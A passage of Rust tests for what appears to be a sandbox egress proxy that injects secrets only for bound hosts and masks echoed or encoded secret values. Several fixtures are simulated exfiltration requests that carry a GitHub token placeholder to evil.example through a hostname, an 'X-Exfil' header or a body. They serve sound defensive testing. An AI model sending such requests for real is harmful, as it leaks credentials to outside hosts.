        // The right name on the wrong port is another destination.
        let bound_port: SecretSet = SecretSet::new(vec![ProxySecret::new(
            "T",
            Secret::new(VALUE),
            vec!["api.example:443".parse().unwrap()],
        )
        .unwrap()]);
        let p2 = bound_port.secrets()[0].placeholder().to_string();
        let head = format!("GET /?t={p2} HTTP/1.1\r\n\r\n");
        assert!(bound_port
            .rewrite_head("api.example", 8443, head.as_bytes())
            .is_err());
        assert!(bound_port
            .rewrite_head("api.example", 443, head.as_bytes())
            .is_ok());
        // A body too.
        let e = s
            .rewrite_body("evil.example", 443, format!("{{\"k\":\"{p}\"}}").as_bytes())
            .unwrap_err();
        assert_eq!(e.place, Place::Body);
        // Nothing to see: unchanged, no substitutions.
        let plain = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n";
        let r = s.rewrite_head("evil.example", 80, plain).unwrap();
        assert_eq!(r.head, plain);
        assert!(r.substitutions.is_empty());
    }

    #[test]
    fn a_placeholder_is_located_precisely_whatever_the_destination() {
        let (s, p) = set();
        let b64 = base64::engine::general_purpose::STANDARD;
        let cases = [
            (
                format!("CONNECT {p}.evil.example:443 HTTP/1.1\r\n\r\n"),
                "",
                Place::Target,
            ),
            (
                format!("GET / HTTP/1.1\r\nHost: x\r\nX-Exfil: a{p}b\r\n\r\n"),
                "",
                Place::Header("x-exfil".into()),
            ),
            (
                format!(
                    "GET / HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
                    b64.encode(format!("u:{p}"))
                ),
                "",
                Place::BasicCredentials("proxy-authorization".into()),
            ),
            (
                "POST / HTTP/1.1\r\n\r\n".to_string(),
                p.as_str(),
                Place::Body,
            ),
        ];
        for (head, body, want) in cases {
            let (name, place) = s.locate(head.as_bytes(), body.as_bytes()).unwrap();
            assert_eq!((name, &place), ("GITHUB_TOKEN", &want), "{head}");
            // Even to a bound host: what `locate` reports does not depend on one.
            let l = s
                .leak_attempt(head.as_bytes(), body.as_bytes(), "api.github.com", 443)
                .unwrap();
            assert_eq!(
                (l.host.as_str(), l.port, l.place),
                ("api.github.com", 443, want)
            );
        }
        assert!(s
            .locate(b"GET / HTTP/1.1\r\nAuthorization: Basic !!\r\n\r\n", b"x")
            .is_none());
    }

    #[test]
    fn values_are_masked_with_several_secrets_overlapping_and_repeated() {
        let a = ProxySecret::new(
            "A",
            Secret::new("abcdefgh12345678"),
            vec!["h.example".parse().unwrap()],
        )
        .unwrap();
        // B's value starts inside A's.
        let b = ProxySecret::new(
            "B",
            Secret::new("12345678zzzzzzzz"),
            vec!["h.example".parse().unwrap()],
        )
        .unwrap();
        let (pa, pb) = (a.placeholder().to_owned(), b.placeholder().to_owned());
        let set = SecretSet::new(vec![a, b]);
        let text = "x abcdefgh12345678zzzzzzzz 12345678zzzzzzzz abcdefgh12345678abcdefgh12345678";
        // A wins where it starts first; B's own occurrences are still found after it.
        let want = format!("x {pa}zzzzzzzz {pb} {pa}{pa}");
        for split in 0..text.len() {
            let mut m = set.masker("h.example", 443);
            let mut out = Vec::new();
            m.push_into(&text.as_bytes()[..split], &mut out);
            m.push_into(&text.as_bytes()[split..], &mut out);
            out.extend(m.finish());
            assert_eq!(String::from_utf8(out).unwrap(), want, "split at {split}");
            assert_eq!(m.masked(), 4);
        }
    }

    #[test]
    fn bodies_are_substituted_and_keep_their_length() {
        let (s, p) = set_in(SecretPlaces::ALL);
        let body = format!("{{\"token\":\"{p}\",\"again\":\"{p}\"}}");
        let (out, subs) = s
            .rewrite_body("api.github.com", 443, body.as_bytes())
            .unwrap();
        assert_eq!(
            String::from_utf8(out.clone()).unwrap(),
            format!("{{\"token\":\"{VALUE}\",\"again\":\"{VALUE}\"}}")
        );
        assert_eq!(subs.len(), 1);
        // Same length: the request's framing stays valid.
        assert_eq!(out.len(), body.len());
    }

    #[test]
    fn echoed_values_are_masked_even_split_across_reads() {
        let (s, p) = set();
        let response = format!("{{\"echo\":\"Bearer {VALUE}\",\"twice\":\"{VALUE}{VALUE}\"}}");
        let want = format!("{{\"echo\":\"Bearer {p}\",\"twice\":\"{p}{p}\"}}");
        // Every split into up to three chunks.
        let bytes = response.as_bytes();
        for a in 0..bytes.len() {
            for b in [a, (a + 7).min(bytes.len()), bytes.len()] {
                let mut m = s.masker("api.github.com", 443);
                let mut out = m.push(&bytes[..a]);
                out.extend(m.push(&bytes[a..b]));
                out.extend(m.push(&bytes[b..]));
                out.extend(m.finish());
                assert_eq!(String::from_utf8(out).unwrap(), want, "split at {a},{b}");
                assert_eq!(m.masked(), 3);
            }
        }
        // One byte at a time.
        let mut m = s.masker("api.github.com", 443);
        let mut out = Vec::new();
        for b in bytes {
            out.extend(m.push(std::slice::from_ref(b)));
        }
        out.extend(m.finish());
        assert_eq!(String::from_utf8(out).unwrap(), want);
        // Text that cannot begin a value is never held back.
        let mut m = s.masker("api.github.com", 443);
        assert_eq!(m.push(b"plain text, ends here"), b"plain text, ends here");
        assert!(!m.holding());
        // A tail that could: held, however long nothing follows, until the end of what is
        // masked (never given up on by time: the rest may still come).
        assert_eq!(m.push(b"then ghp_re"), b"then ");
        assert!(m.holding());
        assert_eq!(m.push(b""), b"");
        assert_eq!(m.finish(), b"ghp_re");
        assert!(!m.holding());
        // Another host's response is not touched (its secrets are not bound there).
        let mut m = s.masker("other.example", 443);
        assert!(!m.is_active());
        assert_eq!(m.push(bytes), bytes);
    }

    #[test]
    fn only_granted_places_are_substituted() {
        let head_with = |p: &str| {
            format!(
                "POST /x?t={p} HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer {p}\r\n\
                 Authorization: Basic {}\r\n\r\n",
                base64::engine::general_purpose::STANDARD.encode(format!("u:{p}"))
            )
        };
        // Default: headers (Basic credentials included), not the target, not the body.
        let (s, p) = set();
        assert_eq!(s.secrets()[0].places(), SecretPlaces::HEADERS);
        let r = s
            .rewrite_head("api.github.com", 443, head_with(&p).as_bytes())
            .unwrap();
        let out = String::from_utf8(r.head).unwrap();
        assert!(out.starts_with(&format!("POST /x?t={p} ")), "{out}");
        assert!(out.contains(&format!("Bearer {VALUE}\r\n")), "{out}");
        let basic = base64::engine::general_purpose::STANDARD.encode(format!("u:{VALUE}"));
        assert!(out.contains(&format!("Basic {basic}\r\n")), "{out}");
        let body = format!("{{\"t\":\"{p}\"}}");
        let (b, subs) = s
            .rewrite_body("api.github.com", 443, body.as_bytes())
            .unwrap();
        assert_eq!(b, body.as_bytes());
        assert!(subs.is_empty());
        // Body only.
        let (s, p) = set_in("body".parse().unwrap());
        let r = s
            .rewrite_head("api.github.com", 443, head_with(&p).as_bytes())
            .unwrap();
        assert!(r.substitutions.is_empty());
        assert_eq!(r.head, head_with(&p).as_bytes());
        let body = format!("{{\"t\":\"{p}\"}}");
        let (b, subs) = s
            .rewrite_body("api.github.com", 443, body.as_bytes())
            .unwrap();
        assert_eq!(b, format!("{{\"t\":\"{VALUE}\"}}").as_bytes());
        assert_eq!(subs[0].place, Place::Body);
        // Not granted is no licence to send it elsewhere: still a leak attempt.
        assert!(s
            .rewrite_head("evil.example", 443, head_with(&p).as_bytes())
            .is_err());
        let (s, p) = set();
        assert!(s.rewrite_body("evil.example", 443, p.as_bytes()).is_err());
    }

    #[test]
    fn encoded_forms_of_a_value_are_masked_at_every_alignment_and_split() {
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        // A value whose base64 uses `+` and `/`, with bytes percent-encoding must escape.
        let value = "s3cr3t/+?&=~val\u{00e9}ue>>>???";
        let s =
            ProxySecret::new("K", Secret::new(value), vec!["h.example".parse().unwrap()]).unwrap();
        let ph = s.placeholder().to_owned();
        let set = SecretSet::new(vec![s]);
        let pct = |x: &str, all: bool| -> String {
            x.bytes()
                .map(|b| {
                    if !all && (b.is_ascii_alphanumeric() || b"-._~".contains(&b)) {
                        char::from(b).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect()
        };
        let mut encoded: Vec<String> = vec![
            value.to_owned(),
            value.bytes().map(|b| format!("{b:02x}")).collect(),
            value.bytes().map(|b| format!("{b:02X}")).collect(),
            pct(value, false),
            pct(value, false).to_lowercase(),
            pct(value, true),
        ];
        // base64 at each alignment: 0, 1 or 2 bytes before the value, and after it.
        for before in ["", "a", "ab"] {
            for after in ["", "z", "zy"] {
                let text = format!("{before}{value}{after}");
                encoded.push(STANDARD.encode(&text));
                encoded.push(URL_SAFE_NO_PAD.encode(&text));
            }
        }
        // As JSON, the way a contents API answers.
        encoded.push(format!(
            "{{\"content\":\"{}\"}}",
            STANDARD.encode(format!("token: {value}\n"))
        ));
        for form in &encoded {
            let response = format!("<<{form}>>");
            for split in 0..response.len() {
                let mut m = set.masker("h.example", 443);
                let mut out = m.push(&response.as_bytes()[..split]);
                out.extend(m.push(&response.as_bytes()[split..]));
                out.extend(m.finish());
                assert_eq!(out.len(), response.len(), "{form}: lengths are kept");
                let out = String::from_utf8_lossy(&out).into_owned();
                assert!(m.masked() >= 1, "{form} at {split}: {out}");
                assert_ne!(out, response, "{form} at {split}");
                // Nothing of the encoded value survives but a few bits at its ends: decoded,
                // the output never holds the value.
                for candidate in decodings(&out) {
                    assert!(
                        !candidate
                            .windows(value.len())
                            .any(|w| w == value.as_bytes()),
                        "{form} at {split}: {out}"
                    );
                    // ... and its middle is the placeholder's.
                    let _ = &ph;
                }
            }
        }
        // Ordinary text is left alone.
        let mut m = set.masker("h.example", 443);
        let plain = b"nothing to see here, 0123456789abcdef %41%42 QUJD";
        let mut out = m.push(plain);
        out.extend(m.finish());
        assert_eq!(out, plain);
        assert_eq!(m.masked(), 0);
    }

    /// Every way the tests above could read a value back out of `text`.
    fn decodings(text: &str) -> Vec<Vec<u8>> {
        use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
        let mut out = vec![text.as_bytes().to_vec()];
        let inner = text.trim_start_matches('<').trim_end_matches('>');
        let inner = inner
            .strip_prefix("{\"content\":\"")
            .and_then(|x| x.strip_suffix("\"}"))
            .unwrap_or(inner)
            .trim_end_matches('=');
        for e in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
            if let Ok(d) = e.decode(inner) {
                out.push(d);
            }
        }
        let unhex = |x: &str| -> Option<Vec<u8>> {
            (0..x.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(x.get(i..i + 2)?, 16).ok())
                .collect()
        };
        if let Some(d) = unhex(inner) {
            out.push(d);
        }
        let mut pct = Vec::new();
        let b = inner.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'%' {
                if let Some(v) = inner
                    .get(i + 1..i + 3)
                    .and_then(|h| u8::from_str_radix(h, 16).ok())
                {
                    pct.push(v);
                    i += 3;
                    continue;
                }
            }
            pct.push(b[i]);
            i += 1;
        }
        out.push(pct);
        out
    }

    #[test]
    fn a_longer_form_still_arriving_wins_over_a_shorter_complete_one() {
        // Two values, one the start of the other: the shorter is complete at the end of
        // the first chunk, but the longer may still come.
        let a = ProxySecret::new(
            "A",
            Secret::new("abcdefgh"),
            vec!["h.example".parse().unwrap()],
        )
        .unwrap();
        let b = ProxySecret::new(
            "B",
            Secret::new("abcdefgh-and-more"),
            vec!["h.example".parse().unwrap()],
        )
        .unwrap();
        let pb = b.placeholder().to_owned();
        let set = SecretSet::new(vec![a, b]);
        let mut m = set.masker("h.example", 443);
        let mut out = m.push(b"x abcdefgh");
        assert_eq!(out, b"x ");
        out.extend(m.push(b"-and-more y"));
        out.extend(m.finish());
        assert_eq!(String::from_utf8(out).unwrap(), format!("x {pb} y"));
    }

    #[test]
    fn maskers_share_what_they_search_for() {
        let (s, _) = set();
        let (a, b) = (
            s.masker("api.github.com", 443),
            s.masker("api.github.com", 443),
        );
        assert!(Arc::ptr_eq(&a.masks, &b.masks));
        let c = s.clone().masker("raw.githubusercontent.com", 443);
        assert!(
            Arc::ptr_eq(&a.masks, &c.masks),
            "the same secrets are bound there"
        );
        assert!(!s.masker("other.example", 443).is_active());
    }

    /// `cargo test --release -p sandbox-egress --lib masker_throughput -- --ignored --nocapture`
    #[test]
    #[ignore = "a measurement, not a check"]
    fn masker_throughput() {
        let (s, _) = set();
        let chunk = vec![b'x'; 64 * 1024];
        let text: Vec<u8> = (0..64 * 1024u32)
            .map(|i| b"The quick brown fox {\"id\": 12345, \"n\": \"abc\"}\n"[i as usize % 44])
            .collect();
        for (what, data) in [("x", &chunk), ("json-ish text", &text)] {
            let rounds = 4096; // 256 MiB
            let mut out = Vec::with_capacity(data.len() + 4096);
            let mut m = s.masker("api.github.com", 443);
            let t = std::time::Instant::now();
            for _ in 0..rounds {
                out.clear();
                m.push_into(data, &mut out);
            }
            let masked = t.elapsed();
            // What one search of the literal value and a copy cost (the masker before it
            // looked for encoded forms).
            let f = memchr::memmem::Finder::new(VALUE.as_bytes());
            let t = std::time::Instant::now();
            let mut found = 0;
            for _ in 0..rounds {
                out.clear();
                found += usize::from(f.find(data).is_some());
                out.extend_from_slice(data);
            }
            let literal = t.elapsed();
            let mib = (rounds * data.len()) as f64 / (1 << 20) as f64;
            eprintln!(
                "{what}: all forms {:.0} MiB/s, literal only {:.0} MiB/s ({found})",
                mib / masked.as_secs_f64(),
                mib / literal.as_secs_f64()
            );
        }
    }
}
